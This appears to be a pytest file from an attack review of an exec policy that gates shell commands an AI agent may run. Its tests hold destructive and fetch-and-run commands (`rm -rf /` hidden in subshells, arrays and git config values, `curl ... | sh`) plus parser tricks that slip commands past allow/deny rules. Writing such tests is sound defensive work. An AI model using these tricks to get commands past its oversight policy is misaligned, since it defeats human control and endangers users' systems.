"""A third round of attack review G of the exec policy (session 12), after 117a029 and 73ac4ea:
inputs the newest reader (extglob groups and arrays as opaque words, globs before a `--`,
env -S re-read as env's options, _GIT_RUNS) still gets wrong. Commands are data only: never
run in a shell.

Shell facts relied on (bash 5.2, dash 0.5, GNU coreutils 9.1, grep 3.8), checked with a
harmless printf or in an empty temporary directory:
- `!(printf hi)` prints `hi` in bash (extglob off, as in `bash -c` and scripts) and in dash: it
  is the `!` keyword and a subshell, not an extglob group;
- `x=( $(printf in) )` runs the substitution: `printf '[%s]' "${x[@]}"` prints `[in]`;
- inside `x=( ... )` a `#` starts a comment: `x=(a #(` newline `); printf hi` prints `hi`;
- an option's value may be `--`: in a directory holding a file `--output=out`,
  `sort -T -- *` writes `out` (sort takes `--` as its temporary directory, then reads the
  expanded `--output=out` as an option); `grep -e -- *` with a file `--count` prints a count;
- git runs `diff.<driver>.command`, `merge.<driver>.driver`, `interactive.diffFilter` and
  `core.alternateRefsCommand` with the shell (the attributes that pick a driver are a file
  the agent can write).
"""

from __future__ import annotations

import pytest

from console.policy import ExecRules, GrantTable, evaluate_exec, execshape
from console.policy.grants import new_grant
from tests.policy.test_exec_attacks_s12 import (  # noqa: F401  (fixtures)
    ALLOW_DEFAULT,
    ASK_DEFAULT,
    _helper,
    _policy_check,
    agent_sock,
    config_file,
)


# 1. A `--` that is an option's value is not the end of the options: execshape.CommandPattern.
#    _glob_past stops at any `--`, so the glob after it is carried by the allow rule `sort`.
@pytest.mark.parametrize("command", [
    "sort -T -- *",                 # sort -T -- --output=out f: writes out
    "sort f -T -- *",
    "rg -e -- *",                   # rg x --pre=sh ... if rg reads -e's value as the next word
    "rg --regexp -- *",
])
def test_double_dash_as_an_option_value_does_not_end_options(command: str) -> None:
    assert ASK_DEFAULT.evaluate(command).action == "ask", command


# 2. `!(...)` at the start of a command is `! ( ... )` (negation and a subshell) where extglob
#    is off (bash's default outside an interactive shell, and dash): shellwords reads it as an
#    extglob group, one opaque word, so the forbid rule never sees `rm -rf /`.
@pytest.mark.parametrize("command", [
    "!(rm -rf /)",
    "!(git push --force)",
    "true && !(rm -rf /)",
    "if !(git push --force); then :; fi",
])
def test_bang_subshell_is_read_as_a_command(command: str) -> None:
    assert ALLOW_DEFAULT.evaluate(command).action == "deny", command
    assert ASK_DEFAULT.evaluate(command).action == "deny", command


# 3. A substitution inside an array or an extglob group runs (`x=( $(cmd) )`), but the group
#    is kept whole and its substitutions are not looked at: the forbid rule is not applied
#    (asked, where `echo $(rm -rf /)` is denied).
@pytest.mark.parametrize("command", [
    "x=( $(rm -rf /) )",
    "x=(`git push --force`)",
    "x+=( \"$(rm -rf /)\" )",
    "echo @($(rm -rf /))",
    "PS4=( '$(rm -rf /)' ) bash -xc ls",
])
def test_substitution_inside_a_group_is_forbidden(command: str) -> None:
    assert ALLOW_DEFAULT.evaluate(command).action == "deny", command


# 4. A comment inside an array hides its `)` from bash, not from shellscan.close_paren: the
#    reader closes the array at the last `)` and takes `; rm -rf /` for array data.
def test_comment_inside_an_array_does_not_hide_a_command() -> None:
    command = "a=(x #(\n); rm -rf /\necho )"
    assert ALLOW_DEFAULT.evaluate(command).action == "deny"


# 5. git configuration that runs a command, missing from unwrap._GIT_RUNS.
@pytest.mark.parametrize("command", [
    "git -c diff.x.command='rm -rf /' diff",
    "git -c merge.x.driver='rm -rf /' merge main",
    "git -c interactive.diffFilter='rm -rf /' add -p",
    "git -c core.alternateRefsCommand='rm -rf /' fetch origin",
])
def test_more_git_values_that_run_commands_are_never_allowed(command: str) -> None:
    assert ALLOW_DEFAULT.evaluate(command).action != "allow", command


# 6. False refusals: unwrap._expand looks for _GIT_RUNS keys in every word of a git command,
#    not in its -c values: a path or a message holding "filter.", "url.", "remote.",
#    "include.", "credential." makes the command opaque, asked under any rule.
GIT_RULES = ExecRules(allow=["git status", "git log", "git commit", "git diff", "git add"])


@pytest.mark.parametrize("command", [
    "git log -- src/filter.py",
    "git diff lib/remote.c",
    "git add tests/test_url.py",
    "git status include.h",
    "git commit -m 'fix credential.py parsing'",
])
def test_git_words_that_are_not_config_are_allowed(command: str) -> None:
    assert GIT_RULES.evaluate(command).action == "allow", command


# 7. An exact grant a person gives for a literal (`make '$(cmd)'`, quoted: no substitution)
#    also covers the command that runs the substitution: grants.Grant.covers compares words,
#    and the quoted and unquoted spellings have the same words.
@pytest.mark.parametrize("command", ["make $(curl -s x.example | sh)",
                                     'make "$(curl -s x.example | sh)"'])
def test_grant_for_a_literal_does_not_cover_a_substitution(command: str) -> None:
    rules = ExecRules(allow=["ls"])
    literal = "make '$(curl -s x.example | sh)'"
    asked = evaluate_exec(literal, rules)
    assert asked.action == "ask" and asked.asking == (literal,)
    grants = GrantTable()
    grants.add(new_grant("exec", asked.asking[0], "allow", "run", run_id="r1", profile="t",
                         decided_by="person"))
    assert evaluate_exec(literal, rules, grants, run_id="r1", profile="t").action == "allow"
    assert evaluate_exec(command, rules, grants, run_id="r1", profile="t").action == "ask"


# 8. Work: every wrapper is a stage holding a copy of the rest of the line, and each forbid
#    and ask rule reads the shape of every stage (CommandPattern.reaches: shape_of per stage,
#    unwrap_stages again per rule). 4 KiB of `sudo ` (or of `env -S` levels) costs the square
#    of the line times the rules: seconds on the daemon's loop with a few dozen rules. Counted:
#    the words shape_of walks, against the line's length.
@pytest.mark.parametrize("line", [
    ("sudo " * 815 + "ls")[:4096],
    ("env -S '" + "env -S " * 580 + "ls'")[:4096],
], ids=["sudo chain", "env -S chain"])
def test_a_chain_of_wrappers_is_read_in_work_linear_in_the_line(line: str, monkeypatch) -> None:
    walked = [0]
    real = execshape.shape_of

    def counting(words):
        walked[0] += len(words)
        return real(words)

    monkeypatch.setattr(execshape, "shape_of", counting)
    rules = ExecRules(allow=["ls"], ask=["git push"], forbid=["rm -rf /", "git push --force"],
                      default="allow")
    rules.evaluate(line)
    assert walked[0] <= 40 * len(line), (walked[0], len(line))


# Every path agrees on these findings: test_exec_attacks_s12.ACROSS_PATHS names them.
